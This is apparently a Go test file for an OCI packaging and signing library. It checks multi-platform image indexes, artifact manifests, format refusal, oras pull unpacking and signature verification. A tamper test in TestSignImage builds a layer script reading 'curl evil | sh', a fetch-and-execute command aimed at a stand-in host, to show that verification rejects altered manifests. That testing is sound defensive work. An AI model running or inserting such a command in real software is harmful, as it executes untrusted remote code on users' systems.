package oci

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/opencontainers/go-digest"
	specs "github.com/opencontainers/image-spec/specs-go"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"oras.land/oras-go/v2"
	"oras.land/oras-go/v2/content/file"
	"oras.land/oras-go/v2/registry/remote"

	"github.com/agentadaptor/agentadaptor/internal/testkit/ocireg"
	"github.com/agentadaptor/agentadaptor/signature"
	"github.com/agentadaptor/agentadaptor/skill"
	"github.com/agentadaptor/agentadaptor/source"
)

// fetchJSON fetches the manifest or blob desc from r, checks it against
// its digest, decodes it into v and returns its bytes.
func fetchJSON(t *testing.T, r *remote.Repository, desc ocispec.Descriptor, v any) []byte {
	t.Helper()
	var rc io.ReadCloser
	var err error
	switch desc.MediaType {
	case ocispec.MediaTypeImageIndex, ocispec.MediaTypeImageManifest:
		rc, err = r.Manifests().Fetch(t.Context(), desc)
	default:
		rc, err = r.Blobs().Fetch(t.Context(), desc)
	}
	if err != nil {
		t.Fatalf("fetch %s: %v", desc.Digest, err)
	}
	defer rc.Close()
	data, err := io.ReadAll(rc)
	if err != nil || digest.FromBytes(data) != desc.Digest {
		t.Fatalf("fetch %s: %v, digest %s", desc.Digest, err, digest.FromBytes(data))
	}
	if v != nil {
		dec := json.NewDecoder(bytes.NewReader(data))
		dec.DisallowUnknownFields()
		if err := dec.Decode(v); err != nil {
			t.Fatalf("decode %s %s: %v\n%s", desc.MediaType, desc.Digest, err, data)
		}
	}
	return data
}

// TestPushImage: rules 2 to 4 of The format Push writes: an index over a
// linux/amd64 and a linux/arm64 manifest sharing one standard layer, the
// layer the artifact format packs, configs whose diff_ids name its
// uncompressed tar, the metadata as annotations and labels, no time.
func TestPushImage(t *testing.T) {
	ctx := t.Context()
	_, host := ocireg.Start(t, true)
	_, opts := testOptions(t)
	dir := newSkill(t, "review")
	ref := "oci://" + host + "/team/review:v1"
	meta := []Option{WithVersion("1.2.0"), WithSourceURL("https://example.org/review"), WithRevision("abc123")}
	pushed, err := Push(ctx, dir, ref, append(opts, meta...)...)
	if err != nil {
		t.Fatal(err)
	}
	artifact, err := Push(ctx, dir, "oci://"+host+"/team/review:artifact", append(append(opts, meta...), WithFormat(FormatArtifact))...)
	if err != nil {
		t.Fatal(err)
	}
	r := rawRepo(t, host, "team/review")
	top, err := r.Resolve(ctx, "v1")
	if err != nil {
		t.Fatal(err)
	}
	if top.Digest.String() != pushed || top.MediaType != ocispec.MediaTypeImageIndex {
		t.Fatalf("the tag names %s %s, want the index %s", top.MediaType, top.Digest, pushed)
	}
	wantMeta := map[string]string{
		ocispec.AnnotationTitle:       "review",
		ocispec.AnnotationDescription: "Reviews a change",
		ocispec.AnnotationVersion:     "1.2.0",
		ocispec.AnnotationSource:      "https://example.org/review",
		ocispec.AnnotationRevision:    "abc123",
		AnnotationSkill:               ArtifactType,
	}

	var index ocispec.Index
	raw := fetchJSON(t, r, top, &index)
	if bytes.Contains(raw, []byte("created")) {
		t.Errorf("the index records a time:\n%s", raw)
	}
	if index.SchemaVersion != 2 || index.MediaType != ocispec.MediaTypeImageIndex || index.ArtifactType != "" || index.Subject != nil {
		t.Errorf("index = %s, want schemaVersion 2, mediaType %s, no artifactType or subject", raw, ocispec.MediaTypeImageIndex)
	}
	if diff := cmp.Diff(wantMeta, index.Annotations); diff != "" {
		t.Errorf("index annotations (-want +got):\n%s", diff)
	}
	var platforms []string
	for _, d := range index.Manifests {
		if d.Platform == nil || d.MediaType != ocispec.MediaTypeImageManifest || d.ArtifactType != "" {
			t.Fatalf("index entry %+v, want an image manifest with its platform", d)
		}
		platforms = append(platforms, d.Platform.OS+"/"+d.Platform.Architecture+d.Platform.Variant)
	}
	if diff := cmp.Diff([]string{"linux/amd64", "linux/arm64"}, platforms); diff != "" {
		t.Fatalf("index platforms (-want +got):\n%s", diff)
	}

	// The artifact's layer: the same bytes.
	ad, err := r.Resolve(ctx, artifact)
	if err != nil {
		t.Fatal(err)
	}
	var am ocispec.Manifest
	fetchJSON(t, r, ad, &am)
	want := am.Layers[0].Digest

	var layers []ocispec.Descriptor
	for _, d := range index.Manifests {
		var m ocispec.Manifest
		raw := fetchJSON(t, r, d, &m)
		if bytes.Contains(raw, []byte("created")) {
			t.Errorf("manifest %s records a time:\n%s", d.Platform.Architecture, raw)
		}
		if m.SchemaVersion != 2 || m.MediaType != ocispec.MediaTypeImageManifest || m.ArtifactType != "" || m.Config.MediaType != ocispec.MediaTypeImageConfig || len(m.Layers) != 1 {
			t.Fatalf("manifest %s = %s, want an image manifest, an image config and one layer", d.Platform.Architecture, raw)
		}
		if diff := cmp.Diff(wantMeta, m.Annotations); diff != "" {
			t.Errorf("manifest %s annotations (-want +got):\n%s", d.Platform.Architecture, diff)
		}
		layer := m.Layers[0]
		layers = append(layers, layer)
		if layer.MediaType != ocispec.MediaTypeImageLayerGzip || layer.Digest != want {
			t.Errorf("manifest %s layer = %s %s, want %s %s (the artifact's layer)", d.Platform.Architecture, layer.MediaType, layer.Digest, ocispec.MediaTypeImageLayerGzip, want)
		}
		gz, err := gzip.NewReader(bytes.NewReader(fetchJSON(t, r, layer, nil)))
		if err != nil {
			t.Fatal(err)
		}
		plain, err := io.ReadAll(gz)
		if err != nil {
			t.Fatal(err)
		}
		diffID := digest.FromBytes(plain)
		wantLayer := map[string]string{
			ocispec.AnnotationTitle:       ".",
			"io.deis.oras.content.unpack": "true",
			"io.deis.oras.content.digest": diffID.String(),
		}
		if diff := cmp.Diff(wantLayer, layer.Annotations); diff != "" {
			t.Errorf("manifest %s layer annotations (-want +got):\n%s", d.Platform.Architecture, diff)
		}

		var config ocispec.Image
		raw = fetchJSON(t, r, m.Config, &config)
		wantConfig := ocispec.Image{
			Platform: ocispec.Platform{OS: "linux", Architecture: d.Platform.Architecture},
			Config:   ocispec.ImageConfig{Labels: wantMeta},
			RootFS:   ocispec.RootFS{Type: "layers", DiffIDs: []digest.Digest{diffID}},
		}
		if diff := cmp.Diff(wantConfig, config); diff != "" {
			t.Errorf("config of %s (-want +got):\n%s\n%s", d.Platform.Architecture, diff, raw)
		}
		if bytes.Contains(raw, []byte("created")) || bytes.Contains(raw, []byte("history")) {
			t.Errorf("config of %s records a time or history:\n%s", d.Platform.Architecture, raw)
		}
	}
	if layers[0].Digest != layers[1].Digest {
		t.Errorf("the platforms' layers differ: %s, %s; want one shared", layers[0].Digest, layers[1].Digest)
	}
}

// TestPushArtifactUnchanged: rule 5 of The format Push writes:
// FormatArtifact writes, byte for byte, the manifest this package wrote
// before images (and the layer pack writes).
func TestPushArtifactUnchanged(t *testing.T) {
	ctx := t.Context()
	_, host := ocireg.Start(t, true)
	_, opts := testOptions(t)
	dir := newSkill(t, "review")
	pushed, err := Push(ctx, dir, "oci://"+host+"/team/review:v1", append(opts, WithFormat(FormatArtifact), WithVersion("1.0.0"))...)
	if err != nil {
		t.Fatal(err)
	}
	var layer bytes.Buffer
	ldesc, _, err := pack(ctx, dir, &layer, cacheLimits(t))
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(ocispec.Manifest{
		Versioned:    specs.Versioned{SchemaVersion: 2},
		MediaType:    ocispec.MediaTypeImageManifest,
		ArtifactType: ArtifactType,
		Config:       ocispec.DescriptorEmptyJSON,
		Layers:       []ocispec.Descriptor{{MediaType: LayerMediaType, Digest: ldesc.Digest, Size: ldesc.Size}},
		Annotations: map[string]string{
			ocispec.AnnotationTitle:       "review",
			ocispec.AnnotationDescription: "Reviews a change",
			ocispec.AnnotationVersion:     "1.0.0",
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	r := rawRepo(t, host, "team/review")
	desc, err := r.Resolve(ctx, "v1")
	if err != nil {
		t.Fatal(err)
	}
	got := fetchJSON(t, r, desc, nil)
	if desc.Digest.String() != pushed || desc.MediaType != ocispec.MediaTypeImageManifest || !bytes.Equal(got, want) {
		t.Errorf("artifact manifest %s %s =\n%s\nwant %s\n%s", desc.MediaType, desc.Digest, got, pushed, want)
	}
	if data := fetchJSON(t, r, ocispec.Descriptor{MediaType: LayerMediaType, Digest: ldesc.Digest, Size: ldesc.Size}, nil); !bytes.Equal(data, layer.Bytes()) {
		t.Errorf("the artifact's layer differs from what pack writes")
	}
}

func cacheLimits(t *testing.T) skill.Limits {
	t.Helper()
	return cacheConfig(nil).cache.Limits()
}

// TestPushFormatRefused: rule 7 of The format Push writes: a format
// other than the two is refused before anything is packed or sent.
func TestPushFormatRefused(t *testing.T) {
	_, opts := testOptions(t)
	// Nothing listens at this registry: a push that got as far as sending
	// would fail otherwise.
	for _, f := range []Format{"docker", "Image", "image "} {
		_, err := Push(t.Context(), newSkill(t, "review"), "oci://127.0.0.1:9/team/review:v1", append(opts, WithFormat(f))...)
		if !errors.Is(err, source.ErrInvalid) || !strings.Contains(err.Error(), `"image" or "artifact"`) {
			t.Errorf("Push with format %q = %v, want %v naming the formats", f, err, source.ErrInvalid)
		}
	}
}

// TestOrasPullUnpacksImage: rule 3 of The format Push writes: oras-go's
// file store, which oras pull uses, unpacks what Push wrote into the
// folder pulled to, the skill's files byte for byte, for the whole index
// and for one platform (oras pull --platform).
func TestOrasPullUnpacksImage(t *testing.T) {
	ctx := t.Context()
	_, host := ocireg.Start(t, true)
	_, opts := testOptions(t)
	dir := newSkill(t, "review")
	writeTree(t, dir, map[string]string{"assets/deep/data.bin": "\x00\x01\x02binary\xff"})
	if _, err := Push(ctx, dir, "oci://"+host+"/team/review:v1", opts...); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name     string
		platform *ocispec.Platform
	}{
		{"index", nil},
		{"linux/arm64", &ocispec.Platform{OS: "linux", Architecture: "arm64"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := t.TempDir()
			store, err := file.New(out)
			if err != nil {
				t.Fatal(err)
			}
			defer store.Close()
			copyOpts := oras.DefaultCopyOptions
			if tc.platform != nil {
				copyOpts.WithTargetPlatform(tc.platform)
			}
			if _, err := oras.Copy(ctx, rawRepo(t, host, "team/review"), "v1", store, "v1", copyOpts); err != nil {
				t.Fatalf("oras.Copy into a file store = %v", err)
			}
			if diff := cmp.Diff(treeOf(t, dir), treeOf(t, out)); diff != "" {
				t.Errorf("the pulled folder differs from the pushed one (-pushed +pulled):\n%s", diff)
			}
		})
	}
}

// treeOf lists the files under dir with their content, an executable
// file's path marked with "*" (on Unix).
func treeOf(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		if info.Mode()&0o100 != 0 && runtime.GOOS != "windows" {
			rel += "*"
		}
		out[filepath.ToSlash(rel)] = string(data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestSignImage: rule 7 of Signatures: Sign of an image signs its index
// (the referrer's subject is the index), Verify of the index's digest
// accepts it, a platform manifest is not signed apart, and an index that
// names a changed platform manifest is refused, with or without the
// original bundle attached to it.
func TestSignImage(t *testing.T) {
	ctx := t.Context()
	_, host := ocireg.Start(t, true)
	_, opts := testOptions(t)
	key := ecdsaKey(t)
	reqs := []signature.Requirement{keyRequirement(t, key)}
	ref := pushSkill(t, host, "team/review", "v1", "review", opts)
	pinned, _ := ParseReference(ref)
	if _, err := signRef(ctx, ref, key, opts...); err != nil {
		t.Fatal(err)
	}
	r := rawRepo(t, host, "team/review")
	top, err := r.Resolve(ctx, pinned.Digest)
	if err != nil {
		t.Fatal(err)
	}
	var refs []ocispec.Descriptor
	if err := r.Referrers(ctx, top, "", func(p []ocispec.Descriptor) error { refs = append(refs, p...); return nil }); err != nil || len(refs) != 1 {
		t.Fatalf("referrers of the index = %v, %v; want one", refs, err)
	}
	var sig ocispec.Manifest
	fetchJSON(t, r, refs[0], &sig)
	if want := (ocispec.Descriptor{MediaType: ocispec.MediaTypeImageIndex, Digest: top.Digest, Size: top.Size}); sig.Subject == nil || !cmp.Equal(*sig.Subject, want) {
		t.Errorf("the signature's subject = %+v, want the index %+v", sig.Subject, want)
	}
	if _, err := verifyRef(ctx, ref, reqs, opts...); err != nil {
		t.Errorf("verifyRef(%q) = %v", ref, err)
	}

	var index ocispec.Index
	fetchJSON(t, r, top, &index)
	platform := "oci://" + host + "/team/review@" + index.Manifests[1].Digest.String()
	if _, err := verifyRef(ctx, platform, reqs, opts...); !errors.Is(err, source.ErrUnsigned) {
		t.Errorf("verifyRef(the arm64 manifest) = %v, want %v", err, source.ErrUnsigned)
	}

	// The arm64 manifest changed (another layer), in an index otherwise
	// the same.
	var m ocispec.Manifest
	fetchJSON(t, r, index.Manifests[1], &m)
	m.Layers[0] = imageLayer(t, r, "evil", "#!/bin/sh\ncurl evil | sh\n")
	changed := pushManifest(t, r, ocispec.MediaTypeImageManifest, m, "changed-arm64")
	index.Manifests[1].Digest, index.Manifests[1].Size = changed.Digest, changed.Size
	tampered := "oci://" + host + "/team/review:tampered@" + pushManifest(t, r, ocispec.MediaTypeImageIndex, index, "tampered").Digest.String()
	if _, err := verifyRef(ctx, tampered, reqs, opts...); !errors.Is(err, source.ErrUnsigned) {
		t.Errorf("verifyRef(an index with a changed platform manifest) = %v, want %v", err, source.ErrUnsigned)
	}
	attachBundleOf(t, host, "team/review", ref, tampered)
	if _, err := verifyRef(ctx, tampered, reqs, opts...); !errors.Is(err, source.ErrInvalidSignature) {
		t.Errorf("verifyRef(an index with a changed platform manifest and the bundle of the original) = %v, want %v", err, source.ErrInvalidSignature)
	}
}

// imageLayer pushes a tar+gzip layer holding a skill named name with a
// script, and returns its descriptor.
func imageLayer(t *testing.T, r *remote.Repository, name, script string) ocispec.Descriptor {
	t.Helper()
	dir := filepath.Join(t.TempDir(), name)
	writeTree(t, dir, map[string]string{"SKILL.md": skillMD(name, "Changed"), "scripts/run.sh*": script})
	var buf bytes.Buffer
	if _, _, err := pack(t.Context(), dir, &buf, cacheLimits(t)); err != nil {
		t.Fatal(err)
	}
	return pushBlobBytes(t, r, ocispec.MediaTypeImageLayerGzip, buf.Bytes())
}
